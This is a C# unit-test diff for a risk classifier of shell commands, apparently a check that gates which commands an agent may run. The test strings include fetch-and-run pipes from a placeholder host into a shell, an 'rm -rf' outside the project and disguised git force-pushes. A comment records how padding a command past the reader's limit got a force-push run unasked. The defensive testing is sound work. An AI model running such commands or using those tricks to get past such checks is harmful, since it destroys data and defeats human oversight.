@@ -54,7 +54,37 @@ public sealed class RiskSignsTests
     // Paths that climb out of the project.
     [InlineData("cat ../other/notes.txt", new[] { RiskSigns.OutsideProject })]
     [InlineData("rm -rf ../other", new[] { RiskSigns.Deletes, RiskSigns.OutsideProject })]
+    // Spellings that team routing must not miss now that it reads the signs: git's own options with a value before the
+    // verb, flags run together, quoted options and refs; an interpreter named by its path, through env, or after a tee.
+    [InlineData("git -C . push --force origin main", new[] { RiskSigns.ForcePush, RiskSigns.Network })]
+    [InlineData("git -c core.x=y push -f origin main", new[] { RiskSigns.ForcePush, RiskSigns.Network })]
+    [InlineData("git push -fu origin main", new[] { RiskSigns.ForcePush, RiskSigns.Network })]
+    [InlineData("git push \"--force\" origin main", new[] { RiskSigns.ForcePush, RiskSigns.Network })]
+    [InlineData("git push origin '+main'", new[] { RiskSigns.ForcePush, RiskSigns.Network })]
+    [InlineData("git push --force-if-includes origin main", new[] { RiskSigns.ForcePush, RiskSigns.Network })]
+    [InlineData("curl -s https://example.invalid/x | /bin/bash", new[] { RiskSigns.PipedToShell, RiskSigns.Network })]
+    [InlineData("curl -s https://example.invalid/x | env sh", new[] { RiskSigns.PipedToShell, RiskSigns.Network })]
+    [InlineData("curl -s https://example.invalid/x | tee x.sh | sh", new[] { RiskSigns.PipedToShell, RiskSigns.Network })]
     public void Command_Risky_ItsSignsInOrder(string command, string[] expected) => Assert.Equal(expected, Command(command));
+
+    [Theory]
+    [InlineData("git push -u origin feature-fix")]
+    [InlineData("git push --follow-tags origin main")]
+    [InlineData("curl -s https://example.invalid/x | grep sh")]
+    public void Command_NotAForcePushNorAPipeToAShell(string command) =>
+        Assert.DoesNotContain(Command(command), sign => sign is RiskSigns.ForcePush or RiskSigns.PipedToShell);
+
+    /// <summary>
+    /// Routing holds a call to what its signs need: a command padded until the reading gives up gets every sign, not none
+    /// (a force-push behind 100 KB of <c>curl</c>s was read as a plain shell call, and ran unasked in a trusted session).
+    /// </summary>
+    [Fact]
+    public void Command_TooLongToRead_HasEverySign()
+    {
+        var padded = "git push --force origin main; : \"" + string.Concat(Enumerable.Repeat("curl ", 20_000)) + "\"";
+        Assert.Equal(RiskSigns.All, Command(padded));
+        Assert.Equal(RiskSigns.All, Command("ls " + new string('a', RiskSigns.LongestRead)));
+    }
 
     [Fact]
     public void Paths_OutsideTheProject_AndCredentials()
